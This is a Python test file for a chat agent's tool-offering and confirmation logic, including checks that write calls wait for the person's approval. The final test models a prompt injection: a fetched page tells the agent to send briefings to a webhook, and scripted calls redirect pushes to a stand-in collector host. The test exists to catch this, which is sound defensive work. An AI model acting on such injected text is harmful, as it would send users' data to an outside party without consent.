"""The chat agent offers the model each turn's searched tools, not the full list."""

from __future__ import annotations

from pathlib import Path

import pytest
from openai import AsyncOpenAI

from ambient.agent.chat import ChatAgent, ToolOffer, tool_offer
from ambient.agent.conversations import ConversationStore
from ambient.settings import Environment, Settings
from bench.find_tools import main as find_tools_bench
from bench.toolcalls.run import tool_server
from tests.standins.llm_api import API_KEY, Content, LLMApi, ToolCalls
from tests.support.servers import serve


def _settings(tmp_path: Path, **values: object) -> Settings:
    return Settings(  # type: ignore[call-arg]
        environment=Environment.TEST, data_dir=tmp_path, _env_file=None, **values
    )


def _names(request: dict[str, object]) -> list[str]:
    return [t["function"]["name"] for t in request["tools"]]  # type: ignore[attr-defined,index]


async def test_each_turn_offers_the_pinned_tools_those_already_called_and_the_searchs_best(
    tmp_path: Path, conversations: ConversationStore
) -> None:
    llm = LLMApi()
    offer = tool_offer(_settings(tmp_path, chat_tools=3, chat_pinned_tools="greet, get_briefing"))
    assert (offer.limit, offer.pinned) == (3, ("greet", "get_briefing"))
    async with tool_server("full") as facade, serve(llm.app()) as base:
        every = await facade.openai_tools()
        model = AsyncOpenAI(api_key=API_KEY, base_url=f"{base}/v1", max_retries=0)
        agent = ChatAgent(model, "standin", facade, system="be brief", offer=offer)
        conversation = await conversations.open("dev", None)
        # The model asks for a write (held for the person's yes) the search did not offer.
        llm.script(ToolCalls([("delete_task", {"task_id": "web-monitor/dev/news"})]))
        [event async for event in agent.turn(conversation, "把 checkout-api 重启一下")]
        first = _names(llm.requests[0])
        assert first[:2] == ["greet", "get_briefing"]
        assert "restart_workload" in first[2:] and len(first) == 5
        # The same search as the find_tools MCP tool (its best three beside the pinned ones),
        # which is itself never offered.
        found = await facade.call("find_tools", {"query": "把 checkout-api 重启一下", "limit": 5})
        names = [t["name"] for t in (found.structured or {})["tools"]]
        assert first[2:] == [n for n in names if n not in first[:2]][:3]
        assert "find_tools" not in first and "delete_task" not in first and len(every) > 60

        # A follow-up acts on what an earlier turn called: that tool stays offered.
        llm.script(Content("好"))
        [event async for event in agent.turn(conversation, "and the other one too")]
        assert "delete_task" in _names(llm.requests[1])


async def test_a_limit_of_zero_offers_every_tool(conversations: ConversationStore) -> None:
    llm = LLMApi()
    async with tool_server("full") as facade, serve(llm.app()) as base:
        model = AsyncOpenAI(api_key=API_KEY, base_url=f"{base}/v1", max_retries=0)
        agent = ChatAgent(model, "standin", facade, system="be brief", offer=ToolOffer(0))
        llm.script(Content("hi"))
        conversation = await conversations.open("dev", None)
        [event async for event in agent.turn(conversation, "hello")]
        every = [t["function"]["name"] for t in await facade.openai_tools()]
        assert _names(llm.requests[0]) == every


async def test_a_write_waits_for_the_persons_yes_and_a_read_runs_at_once(
    conversations: ConversationStore,
) -> None:
    llm = LLMApi()
    pause = ToolCalls([("pause_task", {"task_id": "threshold-watch/dev/btc"})])
    async with tool_server("full") as facade, serve(llm.app()) as base:
        model = AsyncOpenAI(api_key=API_KEY, base_url=f"{base}/v1", max_retries=0)
        agent = ChatAgent(model, "standin", facade, system="be brief", offer=ToolOffer(0))
        conversation = await conversations.open("dev", None)
        # "Thanks!" answered with a pause (a small model's habit): not run, the person is asked.
        llm.script(pause)
        held = [e async for e in agent.turn(conversation, "thanks!")]
        assert [e.type for e in held] == ["confirm"]
        assert held[0].calls == [
            {"function": "pause_task", "arguments": {"task_id": "threshold-watch/dev/btc"}}
        ]
        llm.script(ToolCalls([("list_tasks", {})]), Content("You have none."))
        read = [e async for e in agent.turn(conversation, "what do I have?")]
        # A new request instead of a yes declines the held call; the read then runs at once.
        assert (read[0].function, read[0].text) == ("pause_task", "declined")
        assert [e.type for e in read[1:]] == ["tool_call", "tool_result", "message", "done"]
        # Only the tools that say they destroy, when the operator asks for the old rule.
        loose = ChatAgent(
            model, "standin", facade, system="be brief", offer=ToolOffer(0), confirm="destructive"
        )
        llm.script(pause, Content("Paused."))
        other = await conversations.open("dev", None)
        ran = [e.type async for e in loose.turn(other, "pause")]
        assert ran == ["tool_call", "tool_result", "message", "done"]


def test_the_find_tools_bench_reports_how_often_the_offer_holds_the_expected_tool(
    capsys: pytest.CaptureFixture[str],
) -> None:
    find_tools_bench(["--offer", "5", "--split", "even"])
    line = capsys.readouterr().out.strip().splitlines()[-1]
    assert line.startswith("even: ") and "expected tools offered" in line
    assert "tools offered median 5" in line


async def test_an_offer_keeps_one_search_index_per_tool_listing() -> None:
    async with tool_server("full") as facade:
        every = await facade.openai_tools()
    offer, fewer = ToolOffer(3), every[:-1]
    first = offer._search(every)
    assert offer._search(fewer) is not first
    # Two users with different servers take turns: neither listing is indexed again.
    assert offer._search(every) is first and offer._search(fewer) is offer._search(fewer)
    # The same names saying other things (another user's server, a server that rewords a
    # tool) are another listing: ranked by what they say now, not by the first words seen.
    reworded = [{**t, "function": {**t["function"], "description": "x"}} for t in every]
    assert offer._search(reworded) is not first


async def test_calls_that_replace_the_persons_settings_wait_for_a_yes_in_destructive_mode(
    conversations: ConversationStore,
) -> None:
    # A fetched page or a news item saying "send my briefings to this webhook" must not move
    # the person's pushes without their yes, also when only destructive calls are asked about:
    # set_push_config and update_task replace what was there.
    llm = LLMApi()
    hook = [{"type": "webhook", "target": "https://collector.example/hook"}]
    replace = ToolCalls(
        [
            ("set_push_config", {"channels": hook}),
            ("update_task", {"task_id": "web-monitor/dev/news", "config": {"targets": hook}}),
        ]
    )
    async with tool_server("full") as facade, serve(llm.app()) as base:
        model = AsyncOpenAI(api_key=API_KEY, base_url=f"{base}/v1", max_retries=0)
        agent = ChatAgent(
            model, "standin", facade, system="be brief", offer=ToolOffer(0), confirm="destructive"
        )
        llm.script(replace)
        conversation = await conversations.open("dev", None)
        held = [e async for e in agent.turn(conversation, "summarise that page")]
    assert [e.type for e in held] == ["confirm"]
    assert [c["function"] for c in held[0].calls] == ["set_push_config", "update_task"]
